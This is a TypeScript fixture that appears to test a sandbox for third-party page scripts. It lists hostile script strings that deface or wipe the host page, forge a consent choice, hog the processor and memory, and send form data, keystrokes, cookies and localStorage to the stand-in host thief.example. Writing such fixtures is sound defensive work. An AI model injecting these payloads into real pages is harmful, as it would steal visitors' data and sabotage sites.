/** Nobody wants these scripts on a page. Each is declared in the settings, so each is let into its cage. */
const steal = (what: string) =>
  `fetch('https://thief.example/?' + encodeURIComponent(${what}), { mode: 'no-cors' })`

type HostileTag = readonly [what: string, script: string]

const others: readonly HostileTag[] = [
  // these move the page
  [
    'puts a banner above the page',
    "const b = parent.document.createElement('div'); b.style.height = '400px'; parent.document.body.prepend(b)",
  ],
  ['puts one into the top window', "top.document.body.style.marginTop = '300px'"],
  [
    'grows its own frame',
    "document.body.style.height = '9000px'; frameElement.style.height = '9000px'; frameElement.hidden = false",
  ],
  [
    'asks the page to make room',
    "setInterval(() => parent.postMessage({ type: 'resize', height: 900 }, '*'), 50)",
  ],
  [
    'injects styles into the page',
    "parent.document.head.append(Object.assign(document.createElement('style'), { textContent: '*{margin:40px}' }))",
  ],
  ['shows itself in the whole window', 'document.documentElement.requestFullscreen()'],
  ['scrolls the page', 'setInterval(() => parent.scrollTo(0, Math.random() * 999), 20)'],
  ['writes over the page', "parent.document.write('<h1>Hello</h1>')"],
  // these destroy
  ['empties the page', "parent.document.body.innerHTML = ''"],
  ['removes every form', "parent.document.querySelectorAll('form').forEach((form) => form.remove())"],
  ['empties its own page', "document.documentElement.remove(); document.write('')"],
  ['clears what the visitor has saved', 'parent.localStorage.clear(); localStorage.clear()'],
  [
    'takes the prototypes apart',
    'Element.prototype.append = null; Array.prototype.push = () => { throw 1 }; JSON.parse = null',
  ],
  ['takes the page’s prototypes apart', 'parent.Array.prototype.push = null'],
  ['throws at once', "throw new Error('boo')"],
  [
    'throws in every frame',
    "requestAnimationFrame(function next() { requestAnimationFrame(next); throw new Error('boo') })",
  ],
  [
    'forges a choice of the visitor',
    "parent.postMessage({ type: 'consent', consent: 'all' }, '*'); parent.dispatchEvent(new Event('forecourt:consent'))",
  ],
  // these steal
  ['reads the form', steal('parent.document.forms[0].elements.email.value')],
  ['listens for keys', `parent.addEventListener('keydown', (event) => ${steal('event.key')})`],
  ['listens for every submit', `top.document.addEventListener('submit', () => ${steal("'submit'")}, true)`],
  ['sends the form elsewhere', "parent.document.forms[0].action = 'https://thief.example/'"],
  [
    'reads cookies and storage',
    `${steal('parent.document.cookie')}; ${steal('JSON.stringify(parent.localStorage)')}`,
  ],
  ['sends by a picture', "new Image().src = 'https://thief.example/pixel'"],
  ['sends by a beacon', "navigator.sendBeacon('https://thief.example/beacon', 'x')"],
  ['sends by a socket', "new WebSocket('wss://thief.example/')"],
  [
    'loads a script that nobody declared',
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://thief.example/more.js' }))",
  ],
  [
    'frames somebody else',
    "document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://thief.example/' }))",
  ],
  // these lead away
  ['leads the visitor away', "top.location = 'https://thief.example/'"],
  [
    'posts the visitor away',
    "const f = document.createElement('form'); f.action = 'https://thief.example/'; f.target = '_top'; document.body.append(f); f.submit()",
  ],
  ['opens windows and asks', "open('https://thief.example/'); alert('1'); confirm('2'); prompt('3')"],
  [
    'fills the history',
    "for (let i = 0; i < 50; i++) { try { history.pushState({}, '', '#' + i) } catch {} location.hash = i }",
  ],
]

/** These occupy the processor, and with it every cage, so they start last. */
export const hogs: readonly HostileTag[] = [
  ['never ends', 'while (true) {}'],
  [
    'holds it for two seconds, again and again',
    'setInterval(() => { const end = Date.now() + 2000; while (Date.now() < end) {} }, 10)',
  ],
  ['computes in microtasks', 'const again = () => Promise.resolve().then(again); again()'],
  [
    'starts a hundred timers',
    'for (let i = 0; i < 100; i++) setInterval(() => { for (let k = 0; k < 1e5; k++) Math.sqrt(k) }, 0)',
  ],
  [
    'lays out its own page without end',
    "setInterval(() => { for (let i = 0; i < 2000; i++) document.body.append(document.createElement('p')); document.body.offsetHeight }, 10)",
  ],
  [
    'starts workers',
    "for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(['while(true){}'])))",
  ],
  [
    'fills the memory',
    'const all = []; const timer = setInterval(() => { all.push(new Uint8Array(1e6)); if (all.length > 50) clearInterval(timer) }, 50)',
  ],
  [
    'floods the page with messages',
    "setInterval(() => { for (let i = 0; i < 500; i++) parent.postMessage({ type: 'kept', kept: { a: 'x'.repeat(1000) } }, '*') }, 1)",
  ],
  [
    'logs without end',
    "setInterval(() => { for (let i = 0; i < 100; i++) console.debug('x'.repeat(100)) }, 20)",
  ],
]

export const hostileTags: readonly HostileTag[] = [...others, ...hogs]
